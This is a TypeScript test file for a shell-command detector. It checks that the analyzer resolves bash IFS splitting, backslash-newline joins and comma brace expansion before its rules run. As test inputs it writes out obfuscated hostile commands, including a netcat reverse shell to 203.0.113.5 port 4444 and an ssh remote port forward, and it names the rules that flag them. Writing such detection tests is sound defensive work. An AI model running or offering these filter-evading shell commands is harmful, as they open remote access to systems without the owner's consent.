// Why: proves the analyzer reads three bash word forms the way bash does before running a
// command: the default IFS (`nc${IFS}-e${IFS}/bin/sh`), backslash-newline inside a word
// (`ss\<newline>h`) and comma brace expansion (`{ssh,-R,…}`). Each was a way to hide a command
// name or option from the rules; each test names the hostile command that used to be allowed.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CommandAnalyzer } from '../src/detect/command/analyzer.js';
import { braceExpand } from '../src/detect/command/braces.js';
import { checkCommand } from '../src/detect/check.js';

const analyzer = await CommandAnalyzer.load();
const argvs = (t: string): string[][] => analyzer.analyze(t).commands.map((c) => c.argv);
const rules = (t: string): string[] => checkCommand(t).findings.map((f) => f.rule);

test('an unassigned IFS has its start-up value, so ${IFS} and $IFS split words', () => {
  assert.deepEqual(argvs('nc${IFS}-e${IFS}/bin/sh${IFS}203.0.113.5${IFS}4444')[0], ['nc', '-e', '/bin/sh', '203.0.113.5', '4444']);
  assert.ok(rules('ssh${IFS}-R${IFS}9000:localhost:22${IFS}u@203.0.113.5').includes('cmd_ssh_port_forward'));
  assert.ok(rules('nc${IFS}-e${IFS}/bin/sh${IFS}203.0.113.5${IFS}4444').includes('cmd_netcat_exec'));
  // an assigned IFS still wins
  assert.deepEqual(argvs('IFS=,; c="nc,-e,sh"; $c h 1').at(-1), ['nc', '-e', 'sh', 'h', '1']);
  // quoted, it does not split
  assert.deepEqual(argvs('echo "a${IFS}b"')[0]!.length, 2);
});

test('a backslash-newline inside a word joins the two pieces, as bash does', () => {
  assert.deepEqual(argvs('ss\\\nh -R 9000:localhost:22 u@h')[0], ['ssh', '-R', '9000:localhost:22', 'u@h']);
  assert.deepEqual(argvs('ssh -\\\nR 9000:localhost:22 u@h')[0], ['ssh', '-R', '9000:localhost:22', 'u@h']);
  assert.ok(rules('ss\\\nh -R 9000:localhost:22 u@h').includes('cmd_ssh_port_forward'));
  assert.ok(rules('ssh -\\\nR 9000:localhost:22 u@h').includes('cmd_ssh_port_forward'));
  // a continuation between words still separates them
  assert.deepEqual(argvs('ls \\\n -la')[0], ['ls', '-la']);
});

test('comma brace expansion is screened as its own layer', () => {
  assert.ok(rules('{ssh,-R,9000:localhost:22,u@203.0.113.5}').includes('cmd_ssh_port_forward'));
  assert.ok(rules('{nc,-e,/bin/sh,203.0.113.5,4444}').includes('cmd_netcat_exec'));
  assert.equal(checkCommand('cp config{,.bak}').verdict, 'allow');
});

test('braceExpand expands like bash and leaves quotes, ${…} and sequences alone', () => {
  assert.equal(braceExpand('{ssh,-R,9000:localhost:22,u@h}'), 'ssh -R 9000:localhost:22 u@h');
  assert.equal(braceExpand('cp a{,.bak}'), 'cp a a.bak');
  assert.equal(braceExpand('echo x{a,b{1,2}}y; ls'), 'echo xay xb1y xb2y; ls');
  assert.equal(braceExpand('echo "{a,b}" \'{c,d}\' ${x:-a,b} $(f {})'), null);
  assert.equal(braceExpand('echo {1..254} {} { a; }'), null);
  assert.equal(braceExpand(`echo {${Array.from({ length: 100 }, (_, i) => i).join(',')}}`), null, 'over 64 words stays as written');
});
